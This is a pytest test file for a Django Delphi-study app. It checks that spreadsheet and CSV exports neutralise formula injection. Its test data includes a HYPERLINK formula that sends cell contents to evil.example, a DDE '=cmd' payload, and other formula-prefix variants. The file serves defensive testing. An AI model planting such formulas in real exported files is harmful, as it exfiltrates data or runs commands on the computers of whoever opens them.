"""Every text cell of every sheet and CSV the Delphi exports write is inert text."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from consensus.services.ratings import Answer, ballot_submit
from consensus.services.rounds import round_close, round_open
from tests.factories.consensus import ItemFactory, PanelistFactory, StudyFactory
from wiki.spreadsheets import FORMULA_START, safe_cell

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _hostile_study():
    study = StudyFactory(title='=HYPERLINK("http://evil.example","titre")')
    codes = ['=HYPERLINK("http://x.example")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1"]
    for position, code in enumerate(codes):
        ItemFactory(study=study, code=code, position=position, version__text="=cmd|' /C calc'!A0")
    for _ in range(5):
        PanelistFactory(study=study, category="teacher")
    delphi_round = round_open(user=study.created_by, study=study)
    items = list(delphi_round.round_items.all())
    for i, panelist in enumerate(study.panelists.order_by("pk")):
        answers = {ri.pk: Answer(7, HOSTILE[(i + j) % len(HOSTILE)]) for j, ri in enumerate(items)}
        ballot_submit(user=panelist.user, delphi_round=delphi_round, answers=answers)
    round_close(user=study.created_by, delphi_round=delphi_round)
    return study


def test_no_cell_of_any_export_is_a_formula():
    study = _hostile_study()
    client = Client()
    client.force_login(study.created_by)
    workbook = load_workbook(
        io.BytesIO(client.get(reverse("consensus:export-xlsx", args=[study.pk])).content)
    )
    assert len(workbook.worksheets) == 3
    seen = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen += 1
                    assert not cell.value.startswith(FORMULA_START), (sheet.title, cell.value)
    assert seen > 50
    for name in ("export-csv", "export-comments-csv"):
        text = client.get(reverse(f"consensus:{name}", args=[study.pk])).content.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
        assert len(rows) > 5
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_START), (name, cell)
    # The hostile item codes are there, neutralised, in the results sheet too.
    results = [c.value for c in workbook.worksheets[2]["A"]]
    assert '\'=HYPERLINK("http://x.example")' in results


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_prefixes_formula_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["RAD-01", "7", 7, 0.5, None, "", "a=b"])
def test_safe_cell_leaves_other_values(value):
    assert safe_cell(value) == value
